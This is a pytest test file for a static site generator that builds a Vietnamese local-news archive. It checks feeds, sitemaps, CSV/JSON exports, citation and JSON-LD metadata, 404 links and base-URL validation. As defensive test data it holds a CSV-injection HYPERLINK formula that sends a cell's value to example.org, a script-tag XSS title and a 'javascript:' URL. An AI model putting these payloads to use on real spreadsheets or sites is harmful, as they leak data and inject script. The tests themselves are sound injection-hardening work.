"""What publishers, harvesters and reference managers read: feeds, sitemap, robots, exports,
canonical links, Open Graph, JSON-LD and citation metadata (fixture: base_url set)."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

from archivist.commands import Project, build
from archivist.model.errors import BuildFailed
from tests.conftest import read
import pytest

from tests.golden import FIXTURE, ROOT

BASE = "https://example.org/luu-tru/"
ATOM = "{http://www.w3.org/2005/Atom}"


def test_root_feed_is_valid_atom_of_dated_articles_newest_first(fixture_site):
    feed = ET.parse(fixture_site / "feed.xml").getroot()
    assert feed.tag == f"{ATOM}feed"
    for field in ("id", "title", "updated"):
        assert feed.find(f"{ATOM}{field}").text
    entries = feed.findall(f"{ATOM}entry")
    titles = [e.find(f"{ATOM}title").text for e in entries]
    assert titles[:3] == ["Sau sắp xếp đơn vị hành chính 2025", "Ngày đầy đủ, phường cụ thể", "Chỉ biết tháng đăng"]
    assert "Không rõ ngày đăng" not in titles and len(entries) == 7
    year_only = entries[titles.index("Chỉ biết năm đăng")]
    assert year_only.find(f"{ATOM}updated").text == "2020-01-01T00:00:00+07:00"
    assert year_only.find("{http://purl.org/dc/elements/1.1/}date").text == "2020"
    assert entries[1].find(f"{ATOM}id").text == BASE + "bai-viet/ngay-day-du/"
    assert feed.find(f"{ATOM}updated").text == "2025-08-15T00:00:00+07:00"


def test_province_and_tag_feeds_exist_and_are_linked(fixture_site):
    feed = ET.parse(fixture_site / "dia-phuong" / "dien-bien" / "feed.xml").getroot()
    assert {e.find(f"{ATOM}title").text for e in feed.findall(f"{ATOM}entry")} == {
        "Chỉ biết tháng đăng", "Tên có BOM, CRLF và NFD",
        "Tiêu đề <script>alert('tieu-de')</script> & ký tự đặc biệt"}
    assert 'type="application/atom+xml" title="Tỉnh Điện Biên" href="../../dia-phuong/dien-bien/feed.xml"' in read(fixture_site, "dia-phuong/dien-bien/")
    assert (fixture_site / "chu-de" / "chi-thi-05" / "feed.xml").is_file()


def test_sitemap_lists_every_page_and_robots_points_to_it(fixture_site):
    urlset = ET.parse(fixture_site / "sitemap.xml").getroot()
    locs = [e.text for e in urlset.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    pages = sorted(p.relative_to(fixture_site).as_posix() for p in fixture_site.rglob("index.html"))
    assert sorted(locs) == sorted(BASE + p.removesuffix("index.html") for p in pages)
    assert (fixture_site / "robots.txt").read_text() == f"User-agent: *\nAllow: /\nSitemap: {BASE}sitemap.xml\n"
    assert (fixture_site / ".nojekyll").read_bytes() == b""


def test_archive_exports_have_one_row_per_article(fixture_site):
    data = json.loads((fixture_site / "archive.json").read_text(encoding="utf-8"))
    assert len(data["articles"]) == 8
    first = data["articles"][1]
    assert first["title"] == "Ngày đầy đủ, phường cụ thể" and first["date"] == "2023-06-01"
    assert first["places"][0]["units"][0] == {"level": "province", "code": "89", "name": "Tỉnh An Giang"}
    assert first["url"] == BASE + "bai-viet/ngay-day-du/"
    raw = (fixture_site / "archive.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 8 and rows[3]["date_precision"] == "year" and rows[-1]["date"] == ""
    assert rows[1]["places"] == "phường Mỹ Thạnh, thành phố Long Xuyên, tỉnh An Giang"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_csv_cell_that_looks_like_a_formula_is_kept_as_text(tmp_path, start):
    """OWASP CSV injection: a title starting with =, +, -, @ (a field's leading tab or CR
    is stripped when it is read; a cell with one gets the same) is written with a leading
    "'" in archive.csv, so a spreadsheet shows it as text; archive.json keeps the exact value."""
    from archivist.build.exports import _inert

    assert [_inert(c) for c in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]
    import shutil

    shutil.copytree(FIXTURE, tmp_path / "site", ignore=shutil.ignore_patterns(".cache", "output"))
    article = tmp_path / "site" / "content" / "ngay-day-du.md"
    title = f'{start}HYPERLINK("http://example.org/?x="&A1,"Bấm")'
    text = article.read_text(encoding="utf-8")
    article.write_text(re.sub(r"(?m)^title: .*$", "title: " + json.dumps(title, ensure_ascii=False), text, count=1),
                       encoding="utf-8")
    project = Project.at(tmp_path / "site", templates=ROOT / "templates")
    build(project, base_url="https://example.org/")
    raw = (project.output / "archive.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert [row["title"] for row in rows if "HYPERLINK" in row["title"]] == ["'" + title]
    data = json.loads((project.output / "archive.json").read_text(encoding="utf-8"))
    assert [a["title"] for a in data["articles"] if "HYPERLINK" in a["title"]] == [title]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


class _Head(HTMLParser):
    def __init__(self):
        super().__init__()
        self.meta: dict[str, list[str]] = {}
        self.links: dict[str, str] = {}
        self.json_ld: list[str] = []
        self._in_ld = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "meta" and (a.get("name") or a.get("property")):
            self.meta.setdefault(a.get("name") or a.get("property"), []).append(a.get("content"))
        if tag == "link" and a.get("rel"):
            self.links[a["rel"]] = a.get("href")
        self._in_ld = tag == "script" and a.get("type") == "application/ld+json"

    def handle_data(self, data):
        if self._in_ld:
            self.json_ld.append(data)


def head(site, route):
    parser = _Head()
    parser.feed(read(site, route))
    return parser


def test_article_metadata_for_citation_and_sharing(fixture_site):
    page = head(fixture_site, "bai-viet/ngay-day-du/")
    assert page.links["canonical"] == BASE + "bai-viet/ngay-day-du/"
    assert page.meta["og:type"] == ["article"] and page.meta["og:url"] == [BASE + "bai-viet/ngay-day-du/"]
    assert page.meta["citation_title"] == ["Ngày đầy đủ, phường cụ thể"]
    assert page.meta["citation_author"] == ["Ban VHTT phường Mỹ Thạnh"]
    assert page.meta["citation_publication_date"] == ["2023/06/01"]
    assert page.meta["citation_publisher"] == ["Cổng thông tin điện tử thành phố Long Xuyên"]
    assert page.meta["DC.source"] == ["https://longxuyen.angiang.gov.vn"]
    data = json.loads("".join(page.json_ld))
    assert data["@type"] == "NewsArticle" and data["datePublished"] == "2023-06-01"
    assert data["isBasedOn"] == "https://longxuyen.angiang.gov.vn"
    assert data["contentLocation"][0]["identifier"] == "legacy:ward:30304"
    assert "Trích dẫn" in read(fixture_site, "bai-viet/ngay-day-du/")


def test_undated_article_claims_no_date(fixture_site):
    page = head(fixture_site, "bai-viet/khong-ro-ngay/")
    data = json.loads("".join(page.json_ld))
    assert "datePublished" not in data
    assert "citation_publication_date" not in page.meta and "DC.date" not in page.meta
    assert re.search(r"Lưu tại Kho thử nghiệm: https://example.org/luu-tru/bai-viet/khong-ro-ngay/",
                     read(fixture_site, "bai-viet/khong-ro-ngay/"))


def test_hostile_title_cannot_break_out_of_json_ld(fixture_site):
    page = head(fixture_site, "bai-viet/noi-dung-doc-hai/")
    data = json.loads("".join(page.json_ld))
    assert data["headline"] == "Tiêu đề <script>alert('tieu-de')</script> & ký tự đặc biệt"
    assert "</script>alert" not in read(fixture_site, "bai-viet/noi-dung-doc-hai/")


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.links.extend(value for name, value in attrs if name in ("href", "src") and value)


def _not_found_links(site: Path, base_path: str) -> tuple[list[str], list[str]]:
    """The local links of 404.html (fragments and other sites left out), and those of them
    that are not root-absolute under ``base_path`` or name no file of the site."""
    parser = _Links()
    parser.feed(read(site, "404.html"))
    local = [link for link in parser.links if not link.startswith("#") and not urlsplit(link).scheme]
    bad = []
    for link in local:
        path = unquote(urlsplit(link).path)
        target = site / path.removeprefix(base_path)
        if not path.startswith(base_path) or not (target / "index.html" if path.endswith("/") else target).is_file():
            bad.append(link)
    return local, bad


def test_404_links_stylesheet_and_feed_from_the_base_path(fixture_site):
    """A host serves 404.html at any missing URL, however deep: no link may be relative."""
    local, bad = _not_found_links(fixture_site, "/luu-tru/")
    assert not bad
    assert {"/luu-tru/", "/luu-tru/dia-phuong/", "/luu-tru/feed.xml"} <= set(local)
    assert any(link.startswith("/luu-tru/static/style.css?v=") for link in local)
    assert "canonical" not in head(fixture_site, "404.html").links  # it stands for no one address


def test_404_without_base_url_links_from_the_domain_root(tmp_path):
    """Without base_url the build cannot know a sub-path: 404.html is right at a domain root."""
    out = tmp_path / "output"
    build(Project.at(FIXTURE, templates=ROOT / "templates", output=out), base_url="", search_index=False)
    local, bad = _not_found_links(out, "/")
    assert not bad
    assert {"/", "/dia-phuong/"} <= set(local) and any(link.startswith("/static/style.css?v=") for link in local)


def test_a_site_past_the_sitemap_limit_gets_an_index_of_numbered_sitemaps(monkeypatch):
    """The build lists the data files before making them (they are made while the pages
    render): the names must be those made, with one sitemap or several."""
    from dataclasses import replace

    from archivist.build import exports
    from archivist.model.config import load_config
    from archivist.build.content import load_articles
    from archivist.model.places import gazetteer
    from archivist.build.exports import catalog, data_file_names, data_files
    from archivist.build.site import make_site

    config = load_config(FIXTURE / "site.yaml")
    site = make_site(config, list(load_articles(FIXTURE / "content", gazetteer()).articles))
    data = catalog(site)
    assert list(data_files(data)) == data_file_names(data) and "sitemap.xml" in data_file_names(data)
    monkeypatch.setattr(exports, "SITEMAP_LIMIT", 10)
    files = data_files(data)
    assert list(files) == data_file_names(data)
    pages = [p for p in site.pages if p.file.endswith(".html") and p.route != "404.html"]
    numbered = [name for name in files if name.startswith("sitemap-")]
    assert numbered == [f"sitemap-{n}.xml" for n in range(1, -(-len(pages) // 10) + 1)] and len(numbered) > 1
    index = ET.fromstring(files["sitemap.xml"])
    assert [e.text for e in index.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")] == [BASE + n for n in numbered]
    locs = [e.text for name in numbered for e in ET.fromstring(files[name]).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert len(locs) == len(pages) == len(set(locs))
    bare = catalog(make_site(replace(config, base_url="", search=False), site.articles))
    assert list(data_files(bare)) == data_file_names(bare) and "sitemap.xml" not in data_file_names(bare)


@pytest.mark.parametrize("value", ["javascript:alert(1)//", "example.org/luu-tru", "https://", "ftp://example.org/"])
def test_a_base_url_given_on_the_command_line_is_checked_like_site_yamls(tmp_path, value):
    """--base-url goes into canonical links, og:url, robots.txt, feeds and the citation
    line: it must be an absolute http(s) URL, as base_url in site.yaml must."""
    import shutil
    import subprocess
    import sys

    shutil.copytree(FIXTURE, tmp_path / "site", ignore=shutil.ignore_patterns(".cache", "output"))
    for command in ([], ["check"]):
        result = subprocess.run([sys.executable, str(ROOT / "build.py"), *command, "--root", str(tmp_path / "site"),
                                 "--templates", str(ROOT / "templates"), "--base-url", value],
                                capture_output=True, text=True)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        assert f'--base-url: "{value}" is not an absolute http(s) URL' in result.stderr + result.stdout, command
    assert not (tmp_path / "site" / "output").exists()


def test_a_base_url_with_a_query_on_the_command_line_is_refused(tmp_path, capsys):
    from build import main

    assert main(["--root", str(FIXTURE), "--templates", str(ROOT / "templates"), "--output", str(tmp_path / "out"),
                 "--base-url", "https://example.org/luu-tru?utm_source=x"]) == 1
    assert ('--base-url: "https://example.org/luu-tru?utm_source=x" has a query (?utm_source=x); '
            "a site's address has none: remove it") in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_a_non_ascii_base_url_is_written_percent_encoded_everywhere(tmp_path, capsys):
    """/lưu-trữ/ as the sub-path: sitemap, robots.txt, feeds, canonical links and 404.html
    carry it percent-encoded (valid XML and robots.txt), one slash between segments, and
    the built site passes check."""
    from build import main

    out = tmp_path / "output"
    build(Project.at(FIXTURE, templates=ROOT / "templates", output=out), base_url="https://example.org/lưu-trữ//",
          search_index=False)
    base = "https://example.org/l%C6%B0u-tr%E1%BB%AF/"
    robots = (out / "robots.txt").read_text(encoding="utf-8")
    assert f"Sitemap: {base}sitemap.xml" in robots.splitlines()
    locs = [e.text for e in ET.parse(out / "sitemap.xml").iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locs and all(loc.startswith(base) and loc.isascii() and "//" not in loc[8:] for loc in locs)
    feed = ET.parse(out / "feed.xml").getroot()
    ids = [e.find(f"{ATOM}id").text for e in feed.findall(f"{ATOM}entry")]
    assert ids and all(i.startswith(base) for i in ids)
    assert f'<link rel="canonical" href="{base}">' in (out / "index.html").read_text(encoding="utf-8")
    local, bad = _not_found_links(out, "/lưu-trữ/")
    assert not bad and urlsplit(base).path + "dia-phuong/" in local
    assert all(name.read_bytes().isascii() for name in (out / "robots.txt", out / "sitemap.xml"))
    assert main(["check", "--root", str(FIXTURE), "--templates", str(ROOT / "templates"), "--output", str(out)]) == 0


def test_files_of_templates_root_are_published_at_the_sites_root_and_kept_fresh(fixture_copy):
    """A host's files (CNAME, _redirects, .well-known/) go to the site's root as they are;
    editing, adding or removing one changes output/ on the next build like any input."""
    root = fixture_copy.templates / "root"
    (root / ".well-known").mkdir(parents=True)
    (root / "CNAME").write_bytes(b"luutru.example.vn\n")
    (root / "_redirects").write_bytes(b"/cu/*  /bai-viet/:splat  301\n")
    (root / ".well-known" / "security.txt").write_bytes(b"Contact: mailto:a@example.vn\n")
    build(fixture_copy)
    out = fixture_copy.output
    assert (out / "CNAME").read_bytes() == b"luutru.example.vn\n"
    assert (out / "_redirects").read_bytes() == b"/cu/*  /bai-viet/:splat  301\n"
    assert (out / ".well-known" / "security.txt").read_bytes() == b"Contact: mailto:a@example.vn\n"
    assert build(fixture_copy).skipped

    (root / "CNAME").write_bytes(b"archive.example.vn\n")
    (root / "_redirects").unlink()
    (root / "google1234.html").write_bytes(b"google-site-verification: google1234.html")
    assert not build(fixture_copy).skipped  # (pages are rendered again: a template may include a root file)
    assert (out / "CNAME").read_bytes() == b"archive.example.vn\n"
    assert not (out / "_redirects").exists()
    assert (out / "google1234.html").read_bytes() == b"google-site-verification: google1234.html"


@pytest.mark.parametrize("name, met", [
    ("robots.txt", "robots.txt"), ("index.html", "index.html"), ("static/style.css", "static/style.css"),
    ("pagefind/pagefind.js", "pagefind"), (".archivist", ".archivist"),
    ("bai-viet/ngay-day-du/index.html", "bai-viet/ngay-day-du/index.html"),
    ("bai-viet", "bai-viet/"),                  # a file where the site has a folder
    ("feed.xml/a.txt", "feed.xml"),             # a folder where the site has a file
])
def test_a_root_file_never_replaces_one_the_build_makes(fixture_copy, name, met):
    build(fixture_copy)
    before = {p: p.read_bytes() for p in fixture_copy.output.rglob("*") if p.is_file()}
    target = fixture_copy.templates / "root" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"mine")
    with pytest.raises(BuildFailed) as failed:
        build(fixture_copy)
    (problem,) = failed.value.problems
    assert problem.path.endswith(f"templates/root/{name}")
    assert f"the build makes {met} itself" in problem.message
    assert {p: p.read_bytes() for p in fixture_copy.output.rglob("*") if p.is_file()} == before
